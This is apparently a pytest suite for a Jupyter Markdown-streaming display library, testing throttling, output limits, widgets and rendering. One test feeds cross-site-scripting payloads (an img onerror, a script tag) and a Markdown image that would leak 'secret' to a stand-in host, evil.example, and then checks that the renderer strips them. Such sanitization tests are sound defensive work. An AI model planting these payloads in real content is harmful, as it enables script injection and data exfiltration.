"""MarkdownStream as a frontend sees it: a real kernel, real IOPub messages."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import textwrap
from datetime import datetime
from typing import Any

import pytest

from chatnb.display import MarkdownStream, TextSink
from chatnb.display.markdown_stream import MAX_OUTPUTS
from chatnb.display.terminal import TerminalSink
from chatnb.markdown import render
from chatnb.mock.replies import markdown_sample

from .fakes import FakeClock, FakeLiveSink, FakeSink
from .kernel import Kernel, Run
from .test_markdown import unsafe_tokens

STREAM_SAMPLE = """
from chatnb import MarkdownStream
from chatnb.mock.replies import markdown_sample

text = markdown_sample({length}, 3)
tokens = [text[i:i + 4] for i in range(0, len(text), 4)]
now = [0.0]
step = {seconds_per_token}
stream = MarkdownStream(**({{}} if step is None else {{"clock": lambda: now[0]}}))
for token in tokens:
    now[0] += step or 0
    stream.feed(token)
stream.close()
"""


def test_a_streamed_answer_ends_as_exactly_the_text(kernel: Kernel) -> None:
    # Full speed, real clock: however many renders the machine's speed allows.
    run = kernel.run(STREAM_SAMPLE.format(length=20_000, seconds_per_token=None)).ok()
    text = markdown_sample(20_000, 3)
    shown = run.frontend.markdown()
    assert "".join(shown) == text
    assert "".join(render(part) for part in shown) == render(text)
    assert run.markdown_bytes() <= 3 * len(text.encode())


def live_messages(run: Run) -> list[dict[str, Any]]:
    return [m for m in run.of_type("comm_msg") if m["content"]["data"].get("method") == "custom"]


def test_at_100_tokens_a_second_it_stays_under_50_messages_a_second(kernel: Kernel) -> None:
    # A simulated clock: 100 tokens per second of stream time, however fast the machine is.
    run = kernel.run(STREAM_SAMPLE.format(length=20_000, seconds_per_token=0.01)).ok()
    text = markdown_sample(20_000, 3)
    seconds = len(range(0, len(text), 4)) * 0.01
    messages = len(run.display_messages()) + len(live_messages(run))
    assert messages <= 25 * seconds  # one update every RENDER_INTERVAL_S at most
    assert run.markdown_bytes() <= 3 * len(text.encode())
    shown = run.frontend.markdown()
    assert "".join(shown) == text
    assert len(run.frontend.outputs) <= MAX_OUTPUTS


def test_a_100_kb_answer_stays_in_a_dozen_outputs_and_under_3x(kernel: Kernel) -> None:
    run = kernel.run(STREAM_SAMPLE.format(length=100_000, seconds_per_token=0.01)).ok()
    text = markdown_sample(100_000, 3)
    assert "".join(run.frontend.markdown()) == text
    assert len(run.frontend.outputs) <= MAX_OUTPUTS
    assert run.markdown_bytes() <= 3 * len(text.encode())
    appended = sum(
        len(m["content"]["data"]["content"].get("append", "").encode()) for m in live_messages(run)
    )
    # Appended once as it arrives; the open block once more in each new live output.
    assert appended <= 1.5 * len(text.encode())


PAUSE = """
import time
from chatnb import MarkdownStream
stream = MarkdownStream({output})
stream.feed("# Title\\n\\nThe first words")  # shown at once
stream.feed(" and then BEFORE-THE-PAUSE")  # within the render interval: waits for the timer
fed = time.time()
time.sleep(2)  # the model pauses
stream.feed(" and after it.")
stream.close()
print(f"fed at {{fed}}")
"""


def _seen_at(run: Run, text: str) -> float:
    for msg in run.messages:
        if text in json.dumps(msg["content"]):
            return datetime.fromisoformat(str(msg["header"]["date"])).timestamp()
    raise AssertionError(f"{text!r} never shown")


def test_text_received_before_a_pause_is_on_screen_within_a_quarter_second(
    kernel: Kernel,
) -> None:
    run = kernel.run(PAUSE.format(output="")).ok()
    fed = float(run.frontend.stdout().split("fed at ")[1])
    assert _seen_at(run, "BEFORE-THE-PAUSE") - fed <= 0.25
    assert "".join(run.frontend.markdown()).endswith("BEFORE-THE-PAUSE and after it.")


def test_in_a_widget_too_text_before_a_pause_shows_within_a_quarter_second(
    kernel: Kernel,
) -> None:
    run = kernel.run(
        "import ipywidgets\nout = ipywidgets.Output()\n" + PAUSE.format(output="output=out")
    ).ok()
    fed = float(run.frontend.stdout().split("fed at ")[1])
    assert _seen_at(run, "BEFORE-THE-PAUSE") - fed <= 0.25
    assert "".join(run.frontend.widget_markdown()).endswith("BEFORE-THE-PAUSE and after it.")


def test_untrusted_html_and_remote_images_are_shown_safely(kernel: Kernel) -> None:
    run = kernel.run(
        textwrap.dedent(
            """
            from chatnb import MarkdownStream
            with MarkdownStream() as stream:
                for piece in ["Hi <img src=x onerror=alert(1)>\\n\\n", "![leak](https://evil.",
                              "example/?q=secret)\\n\\n<script>alert(1)</script>\\n"]:
                    stream.feed(piece)
            """
        )
    ).ok()
    shown = run.frontend.markdown()
    assert shown and all(unsafe_tokens(markdown) == [] for markdown in shown)
    # ...and no preview along the way carried them either.
    for msg in run.display_messages():
        assert unsafe_tokens(msg["content"]["data"].get("text/markdown", "")) == []


def test_an_exception_inside_the_block_still_renders_the_final_state(kernel: Kernel) -> None:
    run = kernel.run(
        textwrap.dedent(
            """
            from chatnb import MarkdownStream
            with MarkdownStream() as stream:
                stream.feed("partial **answ")
                raise RuntimeError("boom")
            """
        )
    )
    assert run.reply["status"] == "error"
    assert run.frontend.markdown() == ["partial **answ"]  # the final output is never "closed"


@pytest.mark.parametrize("renders_live", ["1", "0"])
def test_a_widget_output_gets_its_outputs_as_child_widgets(
    kernel: Kernel, renders_live: str
) -> None:
    # Frontends do not apply display updates inside an Output widget, so each output is a
    # child Output whose state is replaced: the browser test (test_browser.py) checks the page.
    # Where the browser renders the live widget, one Markdown child ends it; else the parts
    # went into a dozen Markdown children while it streamed.
    run = kernel.run(
        f"import os\nos.environ['CHATNB_LIVE_RENDER'] = '{renders_live}'\n"
        + STREAM_SAMPLE.replace("MarkdownStream(", "MarkdownStream(output=out, ")
        .replace(
            "from chatnb import MarkdownStream",
            "import ipywidgets\nfrom chatnb import MarkdownStream\nout = ipywidgets.Output()",
        )
        .format(length=6_000, seconds_per_token=0.01)
        + "\ndel os.environ['CHATNB_LIVE_RENDER']"
    ).ok()
    text = markdown_sample(6_000, 3)
    parts = run.frontend.widget_markdown()
    assert "".join(parts) == text
    assert len(parts) == 1 if renders_live == "1" else 1 < len(parts) <= MAX_OUTPUTS
    assert run.display_messages() == [] or all(
        "application/vnd.jupyter.widget-view+json" in m["content"]["data"]
        for m in run.display_messages()
    )
    payload = sum(
        len(output["data"]["text/markdown"])
        for m in run.of_type("comm_msg", "comm_open")
        for output in m["content"]["data"].get("state", {}).get("outputs", [])
    )
    assert payload <= 3 * len(text)  # each update carries one part, not the whole answer


def test_outside_a_kernel_the_text_streams_to_stdout() -> None:
    code = textwrap.dedent(
        """
        from chatnb import MarkdownStream
        stream = MarkdownStream()
        for piece in ["# Title", "\\n\\nSome **bold** text"]:
            stream.feed(piece)
        stream.close()
        print(type(stream.sink).__name__)
        """
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )
    assert result.stdout == "# Title\n\nSome **bold** text\nTextSink\n"


def test_fragments_arriving_before_the_next_render_are_merged() -> None:
    clock = FakeClock()
    sink = FakeSink()
    stream = MarkdownStream(sink=sink, clock=clock)
    stream.feed("a")  # first render at once
    for piece in "bcdefgh":  # all within one render interval: no render
        clock.advance(0.001)
        stream.feed(piece)
    assert sink.outputs == ["a"]
    clock.advance(0.05)
    stream.feed("i")
    assert sink.outputs == ["abcdefghi"]
    assert sink.calls == [("show", 0), ("replace", 0)]
    stream.close()
    stream.close()  # closing twice is harmless
    assert sink.outputs == ["abcdefghi"]


def test_a_huge_open_block_is_throttled_by_bytes_not_only_by_time() -> None:
    clock = FakeClock()
    sink = FakeSink()
    stream = MarkdownStream(sink=sink, clock=clock)
    code = "```\n" + "".join(f"line {i} of a long code block\n" for i in range(600)) + "```\n"
    for i in range(0, len(code), 4):
        clock.advance(0.01)  # 100 tokens/s: 20 renders/s would resend the growing block each time
        stream.feed(code[i : i + 4])
    stream.close()
    assert sink.outputs == [code]
    assert stream.payload_bytes <= 3 * len(code)


def test_text_sink_closes_with_a_newline_only_when_needed(capsys: object) -> None:
    import io

    buffer = io.StringIO()
    with MarkdownStream(sink=TextSink(buffer)) as stream:
        stream.feed("no newline")
    assert buffer.getvalue() == "no newline\n"


def test_text_sink_is_a_sink_that_only_appends() -> None:
    import io

    buffer = io.StringIO()
    sink = TextSink(buffer)
    assert isinstance(sink, TerminalSink)  # a terminal: the answer gets the terminal's views
    handle = sink.show("Hello")
    sink.replace(handle, "Hello, world")  # a continuation: only the new text is printed
    sink.replace(handle, "Something else")  # a terminal cannot take back: on a line of its own
    sink.note("(a note)")
    assert buffer.getvalue() == "Hello, world\nSomething else\n(a note)\n"
    with MarkdownStream(sink=TextSink(buffer)) as stream:
        stream.feed("**raw** as it arrives,")  # not rendered, not held back by the throttle
        assert buffer.getvalue().endswith("**raw** as it arrives,")
        stream.feed(" never twice")
    assert buffer.getvalue().endswith("(a note)\n**raw** as it arrives, never twice\n")


def test_output_slots_hold_any_number_of_pieces_in_a_dozen_outputs_in_order() -> None:
    from chatnb.display.output_slots import OutputSlots

    screen = FakeSink()
    slots = OutputSlots(screen, 11, screen.show)  # type: ignore[arg-type]
    pieces = [f"piece {i}: {'x' * (i % 37)}\n\n" for i in range(2_000)]
    for piece in pieces:
        slots.place(piece)
        assert len(screen.outputs) <= 11
    assert "".join(screen.outputs) == "".join(pieces)  # in order, nothing lost or doubled
    sizes = [len(t) for t in screen.outputs if t]
    assert sizes == sorted(sizes, reverse=True) or sizes[:-1] == sorted(sizes[:-1], reverse=True)
    # Each byte is merged again only when what follows it has caught up (O(n log n)); the
    # stream also holds pieces back to its byte budget, so it merges less than this.
    total = sum(map(len, pieces))
    assert slots.payload_bytes <= total * 6  # 4.3x measured for 2,000 pieces


def test_outputs_render_as_the_whole_answer_with_definitions_from_earlier_outputs() -> None:
    # A definition in one block, used by paragraphs that end in other outputs: each output is
    # rendered on its own, so the definition must travel, and never continue a paragraph.
    text = "[a]: https://example.com/a\n\n" + "".join(
        f"Para {i} uses [a]\n# Heading {i}\n\n" for i in range(40)
    )
    clock = FakeClock()
    screen = FakeLiveSink()
    stream = MarkdownStream(sink=screen, clock=clock)
    for i in range(0, len(text), 3):
        clock.advance(1.0)
        stream.feed(text[i : i + 3])
    stream.close()
    assert len(screen.outputs) <= MAX_OUTPUTS
    assert "".join(render(t) for t in screen.outputs) == render(text)


@pytest.mark.parametrize("live", [True, False])
def test_a_definition_after_its_link_shows_the_whole_answer_again(live: bool) -> None:
    # Labels not defined yet hold nothing back (footnotes and task lists would stall the
    # display); the rare definition that comes later makes the end show the whole once more.
    text = "Read [the guide] first.\n\n" + "".join(f"Step {i}.\n\n" for i in range(60))
    text += "[the guide]: https://example.com/guide\n"
    clock = FakeClock()
    screen = FakeLiveSink() if live else FakeSink()
    stream = MarkdownStream(sink=screen, clock=clock)
    for i in range(0, len(text), 3):
        clock.advance(1.0)
        stream.feed(text[i : i + 3])
        if i == 300:  # well before the definition, the first steps are rendered
            assert any("Step 1." in t for t in screen.outputs)
    stream.close()
    shown = [t for t in screen.outputs if t]
    assert "".join(render(t) for t in shown) == render(text)
    assert '<a href="https://example.com/guide">the guide</a>' in render(shown[0])


def test_a_stream_closed_with_nothing_fed_shows_nothing() -> None:
    # A failed ask (an error before any text) must leave no empty Markdown output behind.
    screen = FakeLiveSink()
    MarkdownStream(sink=screen, timer=False).close()
    assert screen.outputs == []


def test_while_streaming_open_math_is_no_raw_tex_and_a_table_head_no_paragraph() -> None:
    text = (
        "Expand it:\n\n$$\nf(x) = x^2\n- 2x + 1\n$$\n\n"
        "| x | f(x) |\n|---|---|\n| 0 | 1 |\n| 1 | 0 |\n\nDone.\n"
    )
    clock = FakeClock()
    screen = FakeSink()
    stream = MarkdownStream(sink=screen, clock=clock, timer=False)
    for character in text:
        clock.advance(1.0)  # a render after every character
        stream.feed(character)
    stream.close()
    # The renders did catch the moments that matter: math open, and a header row alone.
    assert any("~~~latex\n$$\nf(x)" in state for state in screen.versions)
    assert any(state.endswith("$$\n\n") for state in screen.versions)
    for state in screen.versions:
        html = render(state)
        outside_code = re.sub(r"<pre><code[\s\S]*?</code></pre>", "", html)
        assert "$$" not in outside_code or "$$\nf(x) = x^2\n- 2x + 1\n$$" in state, state
        assert "<p>|" not in html, state
    assert "<table>" in render(screen.outputs[-1])


def test_the_live_text_shows_open_display_math_in_the_code_font() -> None:
    lives: list[Any] = []

    class Screen(FakeLiveSink):
        def show_live(self) -> Any:
            lives.append(super().show_live())
            return lives[-1]

    clock = FakeClock()
    stream = MarkdownStream(sink=Screen(), clock=clock, timer=False)
    fonts = []
    for piece in ["Intro.\n\n", "$$\n\\sum_i x_i\n\n", "= 1\n$$\n\n", "After.\n\n", "More"]:
        clock.advance(1.0)
        stream.feed(piece)
        fonts.append(lives[-1]._code)
    stream.close()
    assert fonts == [False, True, True, False, False]  # updated as blocks are placed
